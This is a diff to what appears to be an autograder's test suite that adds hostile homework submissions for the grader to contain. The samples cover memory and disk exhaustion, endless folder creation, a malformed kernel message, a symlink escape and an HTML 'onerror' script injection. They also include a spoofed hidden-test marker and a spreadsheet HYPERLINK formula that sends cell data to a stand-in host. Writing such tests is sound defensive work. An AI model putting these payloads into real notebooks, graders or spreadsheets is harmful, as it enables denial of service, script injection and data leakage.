@@ -138,6 +138,20 @@ def _nothing(notebook, folder: Path) -> None:
     folder.mkdir(parents=True, exist_ok=True)
 
 
+def _linked(notebook, folder: Path) -> None:
+    folder.parent.mkdir(parents=True, exist_ok=True)
+    folder.symlink_to(Path("..") / "right" / folder.name)
+
+
+def _writes(answer: str) -> Callable:
+    """Return a writer of the good answers with this written one."""
+    def write(notebook, folder: Path) -> None:
+        notebook = _with(notebook, GOOD)
+        next(cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == "task3").source = answer
+        _save(notebook, folder)
+    return write
+
+
 def _other_name(notebook, folder: Path) -> None:
     _save(_with(notebook, GOOD), folder, "my homework (final 2)")
 
@@ -237,6 +251,27 @@ FILLS_SOCKETS_FOLDER = '''import os, glob
 for folder in glob.glob("/tmp/hw-*"):
     for number in range(10_000):
         open(os.path.join(folder, f"filler-{number}"), "wb").write(bytes(2**20))'''
+NONSENSE = '''get_ipython().kernel.iopub_socket.send_multipart(
+    [b"x", b"<IDS|MSG>", b"nonsense", b"{}", b"{}", b"{}", b"{}"])
+import time
+time.sleep(1)'''
+HIDDEN_MEMORY = '''import os
+place = os.memfd_create("hidden")
+for _ in range(900):
+    os.write(place, bytes(2**20))'''
+HIDDEN_FILE = '''import os
+file = open("hidden", "wb")
+os.unlink("hidden")
+for _ in range(900):
+    file.write(bytes(2**20))
+    file.flush()'''
+FOLDERS = '''import os
+number = 0
+while True:
+    os.mkdir(f"folder-{number}")
+    number += 1'''
+PICTURE = '''from IPython.display import publish_display_data
+publish_display_data({"image/png": "AAAA"}, {"image/png": {"width": "1 onerror=alert(1) x"}})'''
 SCRIPT = '''from IPython.display import HTML, display
 display(HTML("<script>document.title = 'mine'</script><b onclick=alert(1)>a very nice page</b>"))'''
 
@@ -277,11 +312,20 @@ def submissions(outside: Path, port: int) -> list[Submission]:
         Submission("leaves_a_process", _answers(task2=LEAVES + "\nlargest = max(column)"), ALL),
         Submission("fills_memory", _answers(task2="rows = []\nwhile True:\n    rows.append(np.ones(2**20))"), FIRST, "MiB of memory"),
         Submission("fills_the_disk", _answers(task2=FILLS_DISK), FIRST),
-        Submission("fills_another_folder", _answers(task2=FILLS_SOCKETS_FOLDER), FIRST, "wrote more than"),
+        Submission("fills_another_folder", _answers(task2=FILLS_SOCKETS_FOLDER), FIRST),
         Submission("prints_much", _answers(task2="for _ in range(10_000):\n    print('x' * 100_000)"), FIRST, "more than"),
         Submission("prints_at_once", _answers(task2="print('x' * 50_000_000)"), FIRST, "more than"),
         Submission("kills_its_kernel", _answers(task2="import os\nos._exit(0)"), FIRST, "It ended the kernel"),
         Submission("exits", _answers(task2="exit()"), FIRST),
+        Submission("sends_nonsense", _answers(task2=NONSENSE + "\nlargest = max(column)"), FIRST, "a message that cannot be read"),
+        Submission("hides_memory", _answers(task2=HIDDEN_MEMORY + "\nlargest = max(column)"), FIRST, isolated=True),
+        Submission("hides_a_file", _answers(task2=HIDDEN_FILE + "\nlargest = max(column)"), FIRST, isolated=True),
+        Submission("makes_folders", _answers(task2=FOLDERS), FIRST, "too many files", isolated=True),
+        Submission("speaks_nbgrader", _answers(task2="### BEGIN HIDDEN TESTS\nlargest = max(column)"), ALL),
+        Submission("links_to_another", _linked, 0, "The folder is a link"),
+        Submission("writes_a_book", _writes("word " * 40_000), 0, "more than 100,000 characters"),
+        Submission("writes_a_formula", _writes('=HYPERLINK("http://course.example/?"&A1,"click")'), ALL),
+        Submission("draws_a_script", _answers(task2=PICTURE + "\nlargest = max(column)"), ALL),
         Submission("shows_a_script", _answers(task2=SCRIPT + "\nlargest = max(column)"), ALL),
         Submission("reads", _answers(task2=READS + "\nlargest = max(column)"), ALL, isolated=True),
         Submission("writes_outside", _answers(task2=WRITES.format(folder=str(outside)) + "\nlargest = max(column)"), ALL, isolated=True),
